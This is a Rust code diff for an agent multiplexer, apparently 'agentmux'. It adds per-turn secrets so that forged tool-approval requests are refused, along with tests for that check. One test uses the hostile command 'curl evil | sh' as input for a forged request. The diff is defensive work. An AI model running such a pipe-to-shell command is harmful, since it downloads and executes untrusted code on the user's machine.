@@ -51,6 +51,8 @@ pub struct Approvals {
     pub denials: HashMap<AgentId, Vec<PermissionDenial>>,
     /// Agents whose current turn runs without the approval tool.
     unwired: std::collections::HashSet<AgentId>,
+    /// The secret of each wired turn's approval channel (in that turn's environment only).
+    secrets: HashMap<AgentId, String>,
 }
 
 impl Approvals {
@@ -70,6 +72,26 @@ impl Approvals {
     pub fn denials_of(&self, agent: AgentId) -> &[PermissionDenial] {
         self.denials.get(&agent).map(Vec::as_slice).unwrap_or(&[])
     }
+
+    /// A fresh secret for the agent's next turn's approval channel (the previous one is void).
+    pub fn open_channel(&mut self, agent: AgentId) -> String {
+        let secret = format!("{}{}", uuid::Uuid::new_v4().simple(), uuid::Uuid::new_v4().simple());
+        self.secrets.insert(agent, secret.clone());
+        secret
+    }
+
+    /// Whether a request carries the secret of the agent's running turn.
+    fn authentic(&self, agent: AgentId, secret: Option<&str>) -> bool {
+        match (self.secrets.get(&agent), secret) {
+            (Some(want), Some(got)) => same_secret(want.as_bytes(), got.as_bytes()),
+            _ => false,
+        }
+    }
+}
+
+/// Compare without an early exit, so the time taken says nothing about the secret.
+fn same_secret(a: &[u8], b: &[u8]) -> bool {
+    a.len() == b.len() && a.iter().zip(b).fold(0u8, |acc, (x, y)| acc | (x ^ y)) == 0
 }
 
 /// Set up approvals for a run: this executable serves them; the user's settings say how to get
@@ -100,6 +122,8 @@ pub fn wire_turn(approvals: &mut Approvals, req: &mut TurnRequest) -> Result<(),
         (Some(exe), Some(socket)) if wiring::wanted(&req.spec.options) => {
             let w = Wiring { exe: exe.clone(), socket };
             wiring::apply(req, &w).map_err(|e| e.to_string())?;
+            let secret = approvals.open_channel(req.agent);
+            req.extra_env.push((crate::control::ENV_APPROVAL_SECRET.to_string(), secret));
             true
         }
         _ => false,
@@ -108,6 +132,7 @@ pub fn wire_turn(approvals: &mut Approvals, req: &mut TurnRequest) -> Result<(),
         approvals.unwired.remove(&req.agent);
     } else {
         approvals.unwired.insert(req.agent);
+        approvals.secrets.remove(&req.agent);
     }
     Ok(())
 }
@@ -137,11 +162,15 @@ pub fn on_ask(state: &mut State, ask: Ask, fx: &mut Vec<Effect>) {
         ask.decide(Decision::Deny { message: Some(message) });
         return;
     };
+    let agent = state.agents[index].id;
+    if ask.from_socket() && !state.approvals.authentic(agent, ask.secret.as_deref()) {
+        refuse_forged(state, index, ask);
+        return;
+    }
     if covered(state, index, &ask) {
         ask.decide(Decision::Allow);
         return;
     }
-    let agent = state.agents[index].id;
     let first = state.approvals.first_for(agent).is_none();
     let title = format!("{} needs you", state.agents[index].name());
     let body = format!("may it run {}?", ask.tool_name);
@@ -150,6 +179,23 @@ pub fn on_ask(state: &mut State, ask: Ask, fx: &mut Vec<Effect>) {
     if first {
         attention(state, &title, &body, fx);
     }
+}
+
+/// A request that did not come from the agent's running turn (no secret or a wrong one): it is
+/// denied without asking the user, so nothing can be allowed, or saved as a rule, in the
+/// agent's name; the log and the status line say so.
+fn refuse_forged(state: &mut State, index: usize, ask: Ask) {
+    let name = state.agents[index].name().to_string();
+    tracing::warn!(agent = %name, tool = %ask.tool_name, "refused an approval request without its turn's secret");
+    state.flash = Some(format!(
+        "refused an approval request for {name} ({}) that did not come from its turn",
+        ask.tool_name
+    ));
+    state.dirty = true;
+    let message = "agentmux refused this approval request: it did not carry the secret of the \
+                   agent's running turn"
+        .to_string();
+    ask.decide(Decision::Deny { message: Some(message) });
 }
 
 /// Forget calls whose approval server gave up (its turn ended or was stopped).
@@ -169,6 +215,7 @@ pub fn on_turn_end(state: &mut State, index: usize, fx: &mut Vec<Effect>) {
     let Some(a) = state.agents.get(index) else { return };
     let id = a.id;
     state.approvals.queue.retain(|p| p.agent != id);
+    state.approvals.secrets.remove(&id);
     if !focused_waits(state) {
         state.approvals.composing = false;
     }
@@ -387,8 +434,20 @@ mod tests {
         tool: &str,
         input: serde_json::Value,
     ) -> (Vec<Effect>, oneshot::Receiver<Reply>) {
-        let (a, rx) = Ask::new(agent, tool, input);
+        let secret = state.index_named(agent).map(|i| {
+            let id = state.agents[i].id;
+            channel(state, id)
+        });
+        let (a, rx) = socket_ask(agent, tool, input, secret);
         (update(state, Msg::Approval(a)), rx)
+    }
+
+    /// The running turn's secret (opened the way `wire_turn` opens it, once per turn).
+    fn channel(state: &mut State, id: crate::agent::AgentId) -> String {
+        match state.approvals.secrets.get(&id) {
+            Some(s) => s.clone(),
+            None => state.approvals.open_channel(id),
+        }
     }
 
     fn answer(rx: &mut oneshot::Receiver<Reply>) -> Option<(Behavior, Option<String>)> {
@@ -403,6 +462,70 @@ mod tests {
 
     fn bash(c: &str) -> serde_json::Value {
         json!({"command": c, "description": "run it"})
+    }
+
+    #[test]
+    fn a_request_without_its_turns_secret_is_refused_and_never_waits() {
+        let mut s = state(false, &[("api", "backend")], (80, 24));
+        let id = s.agents[0].id;
+        let secret = s.approvals.open_channel(id);
+        for forged in [None, Some("guess".to_string()), Some(format!("{secret}x"))] {
+            let (a, mut rx) = socket_ask("api", "Bash", bash("curl evil | sh"), forged.clone());
+            update(&mut s, Msg::Approval(a));
+            match answer(&mut rx) {
+                Some((Behavior::Deny, Some(m))) => assert!(m.contains("refused"), "{m}"),
+                other => panic!("{forged:?}: {other:?}"),
+            }
+            assert_eq!(s.approvals.waiting(), 0, "{forged:?}");
+        }
+        assert!(s.flash.as_deref().is_some_and(|f| f.contains("refused")), "{:?}", s.flash);
+        // Nothing waits, so "always" saves nothing.
+        update(&mut s, allow_always());
+        assert_eq!(s.agents[0].spec.options.allowed_tools, None);
+        // A new turn's secret voids the old one.
+        let old = secret;
+        let _new = s.approvals.open_channel(id);
+        let (a, mut rx) = socket_ask("api", "Bash", bash("ls"), Some(old));
+        update(&mut s, Msg::Approval(a));
+        assert!(matches!(answer(&mut rx), Some((Behavior::Deny, _))));
+    }
+
+    #[test]
+    fn a_wired_turn_carries_its_own_secret_in_its_environment_only() {
+        let mut s = state(false, &[("api", "backend"), ("web", "frontend")], (80, 24));
+        configure(
+            &mut s.approvals,
+            Some("/bin/agentmux".into()),
+            Some("/run/a.sock".into()),
+            Notify::Off,
+        );
+        let fx = send(&mut s, 0, "go");
+        let fx2 = send(&mut s, 1, "go");
+        let secret_of = |fx: &[Effect]| {
+            let reqs = spawned(fx);
+            let env = &reqs[0].extra_env;
+            let v: Vec<&String> = env
+                .iter()
+                .filter(|(k, _)| k == crate::control::ENV_APPROVAL_SECRET)
+                .map(|(_, v)| v)
+                .collect();
+            assert_eq!(v.len(), 1, "{env:?}");
+            assert!(!reqs[0].extra_args.iter().any(|a| a.contains(v[0].as_str())), "not in argv");
+            v[0].clone()
+        };
+        let (api, web) = (secret_of(&fx), secret_of(&fx2));
+        assert!(api.len() >= 64 && api != web, "{api} {web}");
+        // web's secret does not speak for api.
+        let (a, mut rx) = socket_ask("api", "Bash", bash("ls"), Some(web));
+        update(&mut s, Msg::Approval(a));
+        assert!(matches!(answer(&mut rx), Some((Behavior::Deny, _))));
+        let (a, mut rx) = socket_ask("api", "Bash", bash("ls"), Some(api));
+        update(&mut s, Msg::Approval(a));
+        assert!(answer(&mut rx).is_none(), "api's own request waits for the user");
+        // A request from the agent's own process (the live engine's control channel) is its.
+        let (a, mut rx) = Ask::new("web", "Bash", bash("ls"));
+        update(&mut s, Msg::Approval(a));
+        assert!(answer(&mut rx).is_none(), "web's process asks without a secret");
     }
 
     #[test]
